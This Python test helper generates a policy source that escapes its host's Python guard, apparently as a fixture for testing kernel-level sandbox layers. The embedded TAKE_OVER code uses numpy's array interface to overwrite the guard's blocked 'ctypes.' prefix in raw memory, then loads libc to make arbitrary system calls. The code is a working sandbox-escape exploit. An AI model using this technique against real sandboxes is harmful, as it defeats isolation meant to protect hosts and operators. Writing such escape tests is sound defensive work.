"""Policy source that takes over its host process, for tests of the kernel
layers (the corpus's takeover_* cases carry their own copy: each corpus file
stands alone).

numpy's array interface gives raw memory (the dunder is only a string key
of a class dict, so static validation passes it); with it the policy
rewrites the guard's "ctypes." prefix in place, after which the ctypes the
host loaded for itself makes any system call.  From then on only the kernel
layers stand (docs/SECURITY.md, threat model).
"""

TAKE_OVER = '''
import numpy as np
import typing


def _raw(address, size):
    holder = type("Raw", (), {"__array_interface__": {"data": (address, False), "shape": (size,),
                                                      "typestr": "|u1", "version": 3}})()
    return np.asarray(holder)


def take_over():
    modules = typing.sys.modules
    for text in modules["host_guard"]._Guard.ALWAYS_BLOCKED_PREFIXES:
        if text == "ctypes.":
            _raw(id(text) + 48, 7)[0] = 88  # compact str data after a 48-byte header (CPython 3.11)
    ctypes = modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return ctypes, libc
'''


def policy(init: str = "", act: str = "return obs['legal_actions'][0]") -> str:
    """A policy that takes over in __init__, then runs `init`, and `act` in act
    (ctypes and libc are `self.ctypes`, `self.libc`; `ctypes`, `libc` in init)."""
    indent = "\n        "
    return TAKE_OVER + f"""

class Policy:
    def __init__(self, player, game):
        ctypes, libc = take_over()
        self.ctypes, self.libc = ctypes, libc
        {indent.join(init.strip().splitlines()) or 'pass'}

    def act(self, obs):
        {indent.join(act.strip().splitlines())}
"""
